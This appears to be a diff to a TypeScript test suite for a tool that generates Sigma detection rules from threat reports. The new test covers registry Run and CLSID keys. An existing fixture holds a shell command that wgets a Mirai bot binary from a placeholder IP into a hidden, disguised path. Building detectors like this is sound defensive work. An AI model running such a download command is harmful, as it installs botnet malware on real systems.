@@ -95,6 +95,25 @@ describe('builtin SigmaAgent templates', () => {
     expect(must(byClass['dns_query']).title).toBe('DNS Query For Domains Reported In Tracking the Loader campaign');
   });
 
+  it('cuts a registry path around its placeholders instead of copying them into a value', () => {
+    const keys = (value: string, path: string) => [{ ...item, value, hive: 'HKU', path, value_name: 'Updater' }];
+    const selectionOf = (registryKeys: BuiltinSigmaInput['registryKeys']) => {
+      const drafted = generateBuiltinRules({ ...input, registryKeys }).find((draft) => draft.telemetryClass === 'registry_set');
+      return (load(must(drafted).yaml) as Rule).detection['selection'];
+    };
+    expect(selectionOf(keys('HKEY_USERS\\<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'))).toEqual({
+      'TargetObject|contains': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+      'TargetObject|endswith': '\\Updater',
+    });
+    expect(selectionOf(keys('HKU\\<SID>\\Software\\Vendor\\{REDACTED}\\Config', '<SID>\\Software\\Vendor\\{REDACTED}\\Config'))).toEqual({
+      'TargetObject|contains|all': ['\\Software\\Vendor', '\\Config'],
+      'TargetObject|endswith': '\\Updater',
+    });
+    // A real class id is part of the key, not a placeholder.
+    const clsid = 'Software\\Classes\\CLSID\\{0E5AAE11-A475-4C5B-AB00-C66DE400274E}\\InprocServer32';
+    expect(selectionOf(keys(`HKCU\\${clsid}`, clsid))).toEqual({ 'TargetObject|contains': `\\${clsid}`, 'TargetObject|endswith': '\\Updater' });
+  });
+
   it('skips Windows-only classes for a Linux article and uses the linux product', () => {
     const linux = generateBuiltinRules({ ...input, platform: 'linux', processPairs: [], cmdlines: [{ ...item, value: 'cd /tmp && wget -q http://198.51.100.4/bins/mirai.x86 -O /tmp/.sysd/dbus-helper', executable: 'cd' }] });
     const classes = linux.map((draft) => draft.telemetryClass);
